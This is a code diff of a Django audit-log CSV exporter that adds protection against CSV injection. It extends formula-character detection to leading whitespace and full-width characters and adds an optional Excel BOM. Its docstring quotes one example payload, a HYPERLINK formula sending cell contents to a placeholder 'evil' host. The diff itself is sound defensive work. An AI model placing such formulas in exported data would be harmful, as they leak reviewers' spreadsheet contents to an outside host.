@@ -2,7 +2,8 @@
 
 Why neutralise: reasons, tickets, labels and details are typed by people or copied from the
 providers' answers. A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@``
-as a formula (tab and carriage return too: some apps strip them first), so a reason such as
+as a formula, also after blanks it strips first (spaces, tabs, line breaks) and in the
+full-width forms some apps fold to them (U+FF1D, U+FF0B, U+FF0D, U+FF20), so a reason as
 ``=HYPERLINK("http://evil/?"&A1)`` would act on the reviewer's machine ("CSV injection").
 A leading apostrophe makes the spreadsheet show the text as text.
 
@@ -13,10 +14,16 @@ The CSV is for people reviewing the log, so it uses the labels the pages show (s
 import csv
 from collections.abc import Iterable, Iterator
 
-from suppression_admin.audit.models import Operation, OperationItem
-from suppression_admin.audit.serializers import iso_utc
+from django.db.models import QuerySet
 
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+from suppression_admin.audit.models import ItemOutcome, Operation, OperationItem
+from suppression_admin.audit.serializers import iso_utc
+from suppression_admin.audit.streams import operation_rows
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+BLANKS = " \t\r\n"
+# Excel reads a CSV as UTF-8 only when it starts with this mark.
+BOM = "\ufeff"
 
 HEADER = (
     "operation_id",
@@ -41,12 +48,35 @@ HEADER = (
 def neutralise(value: object) -> str:
     """The cell's text, with a leading apostrophe if a spreadsheet would run it."""
     text = "" if value is None else str(value)
-    return f"'{text}" if text.startswith(FORMULA_STARTS) else text
+    runs = text.lstrip(BLANKS).startswith(FORMULA_STARTS) or text.startswith(("\t", "\r"))
+    return f"'{text}" if runs else text
 
 
-def operation_rows(operation: Operation) -> Iterator[list[str]]:
-    """One row per item (items must be prefetched); one row with empty item cells if none."""
-    facts = [
+def csv_lines(
+    operations: Iterable[Operation],
+    *,
+    items: QuerySet[OperationItem] | None = None,
+    bom: bool = False,
+) -> Iterator[str]:
+    """The header then one row per item of every operation (only the items in ``items``,
+    when given; one row with empty item cells for an operation without any), as CSV text,
+    a line at a time."""
+    writer = csv.writer(_Echo())
+    outcomes = dict(ItemOutcome.choices)
+    yield (BOM if bom else "") + writer.writerow(HEADER)
+    for rows in operation_rows(operations, items=items):
+        facts = _facts(rows.operation)
+        wrote = False
+        for identifier, label, original_reason, outcome, detail in rows.items:
+            cells = [identifier, label, original_reason, outcomes.get(outcome, outcome), detail]
+            yield writer.writerow([neutralise(value) for value in facts + cells])
+            wrote = True
+        if not wrote:
+            yield writer.writerow([neutralise(value) for value in facts + [""] * 5])
+
+
+def _facts(operation: Operation) -> list[object]:
+    return [
         operation.pk,
         iso_utc(operation.created_at),
         iso_utc(operation.finished_at),
@@ -59,29 +89,6 @@ def operation_rows(operation: Operation) -> Iterator[list[str]]:
         operation.get_source_display(),
         operation.client_ip,
     ]
-    items: list[OperationItem | None] = list(operation.items.all()) or [None]
-    for item in items:
-        cells = (
-            [""] * 5
-            if item is None
-            else [
-                item.identifier,
-                item.label,
-                item.original_reason,
-                item.get_outcome_display(),
-                item.detail,
-            ]
-        )
-        yield [neutralise(value) for value in facts + cells]
-
-
-def csv_lines(operations: Iterable[Operation]) -> Iterator[str]:
-    """The header then every operation's rows, as CSV text, one line at a time."""
-    writer = csv.writer(_Echo())
-    yield writer.writerow(HEADER)
-    for operation in operations:
-        for row in operation_rows(operation):
-            yield writer.writerow(row)
 
 
 class _Echo:
